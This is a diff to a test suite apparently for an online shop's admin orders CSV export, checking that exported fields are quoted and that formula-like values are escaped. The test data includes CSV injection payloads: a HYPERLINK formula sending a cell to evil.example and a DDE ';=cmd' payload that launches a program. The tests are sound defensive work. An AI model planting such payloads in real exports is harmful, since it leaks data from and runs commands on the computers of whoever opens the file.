@@ -526,11 +526,13 @@ describe('the CSV (docs/product/admin.md#orders)', () => {
       .set({
         status: 'Shipped',
         carrier: 'Delhivery, Express',
-        tracking_number: '-DL1',
+        tracking_number: '\uFF1DDL1',
         order_date: '2026-11-20T20:00:00Z',
       })
       .where(eq(orders.order_id, orderId));
     const other = await namedShopper(t, 'Plain', 'Person', 'plain@csv.test');
+    // A name hiding a formula behind ";" (a separator in some spreadsheets' settings) goes out quoted.
+    await t.database.db.update(users).set({ first_name: ";=cmd|' /C calc'!A0" }).where(eq(users.user_id, other.userId));
     const { orderId: plainId } = await paidOrder(other, 1);
 
     const response = await get('/api/admin/orders.csv?q=csv.test&sort=date_asc');
@@ -540,15 +542,17 @@ describe('the CSV (docs/product/admin.md#orders)', () => {
     const lines = response.body.split('\r\n');
     expect(lines.at(-1)).toBe('');
     expect(lines[0]).toBe(
-      '\uFEFFOrder,Date,Status,Payment,Customer,Email,Phone,Items,Total (INR),Refunded (INR),City,State,PIN,Carrier,Tracking',
+      '\uFEFF"Order","Date","Status","Payment","Customer","Email","Phone","Items","Total (INR)","Refunded (INR)","City","State","PIN","Carrier","Tracking"',
     );
     expect(lines).toHaveLength(4);
     // 20:00 UTC on 20 November is 01:30 on 21 November in India.
     expect(lines[1]).toBe(
-      `${orderId},2026-11-21 01:30,Shipped,Paid,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",mallory@csv.test,'+919812345678,2,1000,0,Bengaluru,Karnataka,560001,"Delhivery, Express",'-DL1`,
+      `${orderId},"2026-11-21 01:30","Shipped","Paid","'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","mallory@csv.test","'+919812345678",2,1000,0,"Bengaluru","Karnataka","560001","Delhivery, Express","'\uFF1DDL1"`,
     );
     expect(lines[2]).toMatch(
-      new RegExp(`^${plainId},\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2},Confirmed,Paid,Plain Person,plain@csv.test,`),
+      new RegExp(
+        `^${plainId},"\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}","Confirmed","Paid",";=cmd\\|' /C calc'!A0 Person","plain@csv.test",`,
+      ),
     );
 
     const shipped = await get('/api/admin/orders.csv?q=csv.test&status=Shipped');
